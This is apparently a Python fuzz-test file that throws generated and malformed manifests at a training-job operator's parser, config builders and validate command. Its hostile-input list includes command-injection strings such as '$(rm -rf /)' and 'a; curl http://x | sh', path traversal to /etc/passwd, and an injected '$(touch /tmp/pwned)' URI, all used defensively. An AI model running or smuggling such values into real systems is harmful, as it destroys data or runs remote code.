"""Hostile input: thousands of generated manifests (hypothesis) against the models, the builders
and `forgeline validate`. Nothing may crash: a manifest is either a job (and then builds a job
config and a RayCluster) or rejected with every error naming a field and a fix."""

from __future__ import annotations

import copy
import json
import subprocess
import sys
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from forgeline_operator.api import InvalidJobError, parse_job
from forgeline_operator.api.jobconfig import build_job_config
from forgeline_operator.controller import builders
from forgeline_operator.rayclient.rayjobs import entrypoint

from .conftest import EXAMPLES, REPO, load_yaml_documents

SEEDS = [
    doc
    for path in sorted(EXAMPLES.glob("*.yaml")) + sorted((EXAMPLES / "production").glob("*.yaml"))
    for doc in load_yaml_documents(path)
    if doc.get("kind") in ("TrainingJob", "FineTuneJob")
]
HOSTILE_TEXT = st.sampled_from(
    [
        "../../etc/passwd",
        "$(rm -rf /)",
        "`id`",
        "a; curl http://x | sh",
        "'\"\\",
        "ünïcødé-名前-🚀",
        "\x00\x1b[31m",
        "x" * 5000,
        "",
        " ",
        "s3://",
        "pvc://",
        "hf://../..",
        "-1",
        "1e309",
    ]
)
VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**63), max_value=2**63)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=40)
    | HOSTILE_TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=8,
)


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [prefix]
    if isinstance(node, dict):
        for k, v in node.items():
            out += _paths(v, prefix + (k,))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            out += _paths(v, prefix + (i,))
    return out


@st.composite
def manifests(draw: st.DrawFn) -> dict[str, Any]:
    """A shipped example with a few fields replaced, removed or added."""
    doc = copy.deepcopy(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        paths = [p for p in _paths(doc) if p]
        path = draw(st.sampled_from(paths))
        parent = doc
        for key in path[:-1]:
            parent = parent[key]
        action = draw(st.sampled_from(["replace", "remove", "add"]))
        if action == "remove" and isinstance(parent, dict):
            parent.pop(path[-1], None)
        elif action == "add" and isinstance(parent, dict):
            parent[draw(st.text(min_size=1, max_size=12) | st.sampled_from(["spec", "weird", "$ref"]))] = (
                draw(VALUES)
            )
        else:
            parent[path[-1]] = draw(VALUES)
    return doc


_FUZZ = {"deadline": None, "derandomize": True, "suppress_health_check": [HealthCheck.too_slow]}


@settings(max_examples=300, **_FUZZ)  # derandomized: the same 300 every run; 10,000 in make soak
@given(manifests())
def test_any_manifest_is_a_job_or_field_named_errors(doc: dict[str, Any]) -> None:
    _check_manifest(doc)


@pytest.mark.soak
@settings(max_examples=10000, **_FUZZ)
@given(manifests())
def test_ten_thousand_manifests_are_jobs_or_field_named_errors(doc: dict[str, Any]) -> None:
    _check_manifest(doc)


def _check_manifest(doc: dict[str, Any]) -> None:
    """A generated manifest either parses into a job that everything downstream handles, or is
    refused with field-named errors that each carry a fix."""
    try:
        job = parse_job(doc)
    except InvalidJobError as exc:
        assert exc.errors
        for error in exc.errors:
            assert error.path and error.message, error
            assert isinstance(error.fix, str)
        return
    # accepted: everything downstream of the API works on it without a crash
    # the caller resolves every fromJob (the operator looks up each upstream job's output)
    adapters = ["/models/adapter"] * len(job.adapter_sources())
    config = build_job_config(
        job, base_model="/models/base", reward_model="/models/rm", adapters=adapters, work_dir="/w"
    )
    json.loads(config.model_dump_json())
    rc = builders.build_ray_cluster(job, "img")
    assert rc["metadata"]["name"] == job.ray_cluster_name() and len(rc["metadata"]["name"]) <= 47


def test_no_spec_text_ever_reaches_a_command_line() -> None:
    """The trainer's command is fixed; the job config travels in an environment variable."""
    doc = copy.deepcopy(SEEDS[0])
    doc["spec"]["output"]["uri"] = "runs/$(touch /tmp/pwned)`id`;x"
    job = parse_job(doc)
    config = build_job_config(job, work_dir="/w")
    assert "$(touch" in config.paths.output  # kept verbatim as data ...
    assert (
        entrypoint("/usr/bin/python")
        == "/usr/bin/python -m forgeline_trainer --config env:FORGELINE_JOB_CONFIG"
    )


def test_validate_never_prints_a_traceback() -> None:
    bad = [
        "not: [valid",
        "- a\n- list",
        "apiVersion: forgeline.dev/v1alpha1\nkind: TrainingJob\nmetadata: {name: x}\nspec: 7\n",
        "apiVersion: forgeline.dev/v1alpha1\nkind: FineTuneJob\nmetadata: {name: ../..}\nspec: {method: 1}\n",
        "\x00\x01",
    ]
    for text in bad:
        proc = subprocess.run(
            [sys.executable, "-m", "forgeline_operator.cli.main", "validate", "-"],
            input=text,
            capture_output=True,
            text=True,
            cwd=REPO,
            timeout=60,
        )
        assert proc.returncode in (1, 2), (text, proc.stdout, proc.stderr)
        assert "Traceback" not in proc.stdout + proc.stderr, (text, proc.stderr)
